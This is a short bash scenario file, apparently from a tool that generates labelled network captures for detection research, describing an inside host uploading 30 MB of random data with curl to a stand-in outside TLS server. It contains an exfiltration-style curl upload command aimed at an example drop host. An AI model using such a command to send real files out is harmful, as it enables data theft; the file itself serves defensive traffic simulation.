# shellcheck shell=bash disable=SC2034
TITLE='An inside host uploads 30 MB to an outside TLS server'
KIND=attack
ATTACKER=(10.20.1.66)
VICTIMS=(10.20.1.66)
NEEDS=(web intra)
PROGRAMS=(curl nginx-light unbound nsd)
SNAPLEN=96
ORIGIN='pc66 uploads 30,000,000 random bytes with curl (PUT, limited to 3 MB/s) to https://drop.file-box.example (203.0.113.88) while pc11 to pc13 browse. Recorded with a snap length of 96 bytes (tcpdump -s 96), so the captured length is less than the wire length. The sender of the data is attacker and victim at once. Times as recorded.'

attack() {
  head -c 30000000 /dev/urandom >"$W/tmp/archive.7z"
  chmod 644 "$W/tmp/archive.7z"
  on pc66 curl -sS -m 60 --limit-rate 3M -T "$W/tmp/archive.7z" https://drop.file-box.example/upload
}

scenario() { with_life 'pc11 pc12 pc13' attack; }
